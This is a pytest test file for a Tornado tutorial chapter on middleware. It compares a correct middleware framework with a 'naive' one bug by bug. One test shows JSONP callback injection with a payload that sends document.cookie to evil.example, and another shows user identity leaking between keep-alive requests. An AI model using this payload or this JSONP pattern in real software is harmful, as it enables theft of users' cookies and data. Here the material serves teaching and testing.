"""Chapter 15's app (three middlewares around WebHandler and ApiHandler pages), and tornadopy's
middleware (naive.py) failing where tornkit's holds."""
import asyncio
import json

import pytest
import tornado.web
from tornado.httpclient import AsyncHTTPClient

from chapters.ch15_middleware import naive
from chapters.ch15_middleware.app import make_app
from chapters.ch15_middleware.recording import (SetsUserFromHeader, keep_alive_requests,
                                                 recorders, user)
from tornkit.application import Application
from tornkit.conf import Settings
from tornkit.handler import WebHandler


@pytest.fixture
def app(tmp_path):
    return make_app(data_dir=tmp_path)


async def traces(fetch):
    response = await fetch("/traces?n=20")
    return json.loads(response.body)["traces"]


# --- the pages -----------------------------------------------------------------------------------
@pytest.mark.gen_test
async def test_index_lists_the_middlewares_outermost_first(fetch):
    body = (await fetch("/")).body.decode()
    assert body.index("middlewares.Timing") < body.index("middlewares.Auth") < \
        body.index("middlewares.Trace")


@pytest.mark.gen_test
async def test_hello_shows_its_trace_with_every_render(fetch):
    response = await fetch("/hello?user=ann")
    body = response.body.decode()
    assert "Hello, Ann" in body
    assert ("<li>process_call</li><li>process_request</li><li>process_render hello.html</li>"
            "<li>process_render card.html</li><li>process_render card.html</li>") in body
    assert response.headers["X-Response-Time"].endswith("ms")  # Timing's process_response


@pytest.mark.gen_test
async def test_the_complete_trace_of_a_page_ends_with_response_and_endcall(fetch):
    await fetch("/hello")
    assert (await traces(fetch))[-1] == [
        "GET /hello", "process_call", "process_request", "process_render hello.html",
        "process_render card.html", "process_render card.html", "process_render footer.html",
        "process_response 200", "process_endcall"]


@pytest.mark.gen_test
async def test_private_is_answered_by_the_async_auth_middleware(fetch):
    refused = await fetch("/private")
    assert (refused.code, refused.body) == (401, b"401: sign in first (try ?user=ann)\n")
    assert refused.headers["X-Response-Time"]  # the outer middleware still saw the response
    welcome = await fetch("/private?user=ann")
    assert welcome.body == b"Welcome, Ann: Auth let you in.\n"


@pytest.mark.gen_test
async def test_a_405_before_prepare_still_ends_every_middleware(fetch):
    response = await fetch("/hello", method="POST", body="")
    assert response.code == 405
    assert (await traces(fetch))[-1] == [
        "POST /hello", "process_call", "process_exception HTTPError", "process_response 405",
        "process_endcall"]


@pytest.mark.gen_test
async def test_maintenance_raises_and_every_middleware_sees_the_exception(fetch):
    response = await fetch("/maintenance")
    assert (response.code, response.body) == (
        503, b"503 Service Unavailable: down for maintenance until 10:00 UTC\n")
    assert response.headers["X-Response-Time"]
    assert (await traces(fetch))[-1] == [
        "GET /maintenance", "process_call", "process_request", "process_exception HTTPError",
        "process_response 503", "process_endcall"]


@pytest.mark.gen_test
async def test_api_hello_is_json(fetch):
    response = await fetch("/api/hello?user=bob&callback=steal")
    assert response.headers["Content-Type"] == "application/json; charset=UTF-8"
    assert json.loads(response.body) == {"hello": "Bob", "chapter": 15}


@pytest.mark.gen_test
@pytest.mark.parametrize("n", ["0", "21", "x"])
async def test_traces_refuses_a_bad_count_with_a_400(fetch, n):
    response = await fetch(f"/traces?n={n}")
    assert response.code == 400 and b"n must be" in response.body


@pytest.mark.gen_test
async def test_an_unknown_path_is_a_404_that_still_balances(fetch):
    response = await fetch("/nowhere")
    assert response.code == 404
    assert (await traces(fetch))[-1] == ["GET /nowhere", "process_call", "process_endcall"]


# --- tornadopy's middleware, bug by bug ---------------------------------------------------------
@pytest.fixture
def client(io_loop):
    client = AsyncHTTPClient()
    yield client
    client.close()


@pytest.fixture
def naive_patch():
    """NaiveApplication replaces tornado.httputil.HTTPServerRequest: put it back afterwards."""
    yield
    naive.restore_request_class()


@pytest.mark.gen_test
async def test_b5_the_global_request_patch_makes_two_apps_run_each_others_middlewares(
        serve, client, naive_patch):
    log = []
    One, = recorders(log, "One")
    Two, = recorders(log, "Two")

    class Page(naive.NaiveHandler):
        def get(self):
            self.write("ok")

    one = serve(naive.NaiveApplication([("/", Page)], middlewares=[One]))
    serve(naive.NaiveApplication([("/", Page)], middlewares=[Two]))
    log.clear()
    await client.fetch(one + "/")
    assert log[:2] == ["call One", "call Two"]  # a request to app one ran app two's process_call
    naive.restore_request_class()

    log_fixed = []
    One, = recorders(log_fixed, "One")
    Two, = recorders(log_fixed, "Two")

    class Fixed(WebHandler):
        def get(self):
            self.write("ok")

    one = serve(Application([("/", Fixed)], conf=Settings(MIDDLEWARE_CLASSES=[One])))
    serve(Application([("/", Fixed)], conf=Settings(MIDDLEWARE_CLASSES=[Two])))
    log_fixed.clear()
    await client.fetch(one + "/")
    assert log_fixed == ["call One", "request One", "response One", "endcall One"]


def exception_order(log, handler_base, make):
    A, B, C = recorders(log, "A", "B", "C")

    class Boom(handler_base):
        def get(self):
            raise ValueError("boom")

    return make([("/", Boom)], [A, B, C])


@pytest.mark.gen_test
async def test_b7_process_exception_runs_in_declared_order_although_the_readme_says_reversed(
        serve, client, naive_patch):
    naive_log, fixed_log = [], []
    url = serve(exception_order(naive_log, naive.NaiveHandler,
                                lambda r, m: naive.NaiveApplication(r, middlewares=m)))
    await client.fetch(url + "/", raise_error=False)
    naive.restore_request_class()
    url = serve(exception_order(fixed_log, WebHandler, lambda r, m: Application(
        r, conf=Settings(MIDDLEWARE_CLASSES=m))))
    await client.fetch(url + "/", raise_error=False)
    exceptions = [[e for e in log if e.startswith("exception")] for log in (naive_log, fixed_log)]
    assert exceptions == [
        ["exception A ValueError", "exception B ValueError", "exception C ValueError"],
        ["exception C ValueError", "exception B ValueError", "exception A ValueError"]]


class Slow:
    async def process_request(self, handler, clear):
        await asyncio.sleep(0.02)
        handler.user = "ann"


@pytest.mark.gen_test
async def test_b2_on_prepare_runs_before_an_async_middleware_is_done(serve, client, naive_patch):
    seen = []

    class Page(naive.NaiveHandler):
        def on_prepare(self):
            seen.append(getattr(self, "user", None))

        def get(self):
            self.write("ok")

    url = serve(naive.NaiveApplication([("/", Page)], middlewares=[Slow]))
    await client.fetch(url + "/")
    assert seen == [None]  # tornkit: test_an_async_process_request_finishes_before_on_prepare


@pytest.mark.gen_test
async def test_b3_process_render_sees_only_the_first_render_of_a_request(
        serve, client, naive_patch):
    log = []
    A, = recorders(log, "A")

    class Card(tornado.web.UIModule):
        def render(self, title):
            return self.render_string("card.html", title=title)

    class Page(naive.NaiveHandler):
        def get(self):
            self.render("hello.html", user="ann", trace=[])

    url = serve(naive.NaiveApplication([("/", Page)], middlewares=[A],
                                       template_path="tpl/ch15_middleware",
                                       ui_modules={"Card": Card}))
    await client.fetch(url + "/")
    # Four render_string() calls (page, two cards, footer); the used-up deque saw one.
    assert [e for e in log if e.startswith("render")] == ["render A hello.html"]


@pytest.mark.gen_test
async def test_b4_await_self_finish_is_a_type_error(serve, client, naive_patch, caplog):
    class Page(naive.NaiveHandler):
        async def get(self):
            await self.finish("done")

    url = serve(naive.NaiveApplication([("/", Page)]))
    response = await client.fetch(url + "/", raise_error=False)
    assert response.body == b"done"  # sent, then:
    assert "TypeError: object NoneType can't be used in 'await' expression" in caplog.text


@pytest.mark.gen_test
async def test_b14_jsonp_lets_any_page_read_the_api_and_injects_the_callback(
        serve, client, naive_patch):
    class Api(naive.NaiveHandler):
        def get(self):
            self.write_api({"email": "ann@example.com"})

    url = serve(naive.NaiveApplication([("/api", Api)]))
    # Any other site can embed <script src=".../api?callback=steal"> and receive the data,
    # with the visitor's cookies; and the "callback" is any script it likes.
    response = await client.fetch(url + "/api?callback=fetch('//evil.example/'%2Bdocument.cookie)//")
    assert response.headers["Content-Type"] == "application/javascript"
    assert response.body == (b"fetch('//evil.example/'+document.cookie)//"
                             b"({\"email\": \"ann@example.com\"});")


@pytest.mark.gen_test
async def test_a_contextvar_set_before_routing_leaks_into_the_next_keep_alive_request(
        serve, naive_patch):
    class NaiveWho(naive.NaiveHandler):
        def get(self):
            self.write({"user": user.get(), "same": naive.current_request.get() is self.request})

    url = serve(naive.NaiveApplication([("/who", NaiveWho)], middlewares=[SetsUserFromHeader]))
    first, second = await keep_alive_requests(url, [("/who", {"X-User": "ann"}), ("/who", {})])
    assert json.loads(first) == {"user": "ann", "same": True}
    # The second request said nothing about its user, and is served as ann. tornkit:
    # test_a_contextvar_set_in_process_call_does_not_leak_into_the_next_keep_alive_request
    assert json.loads(second) == {"user": "ann", "same": True}
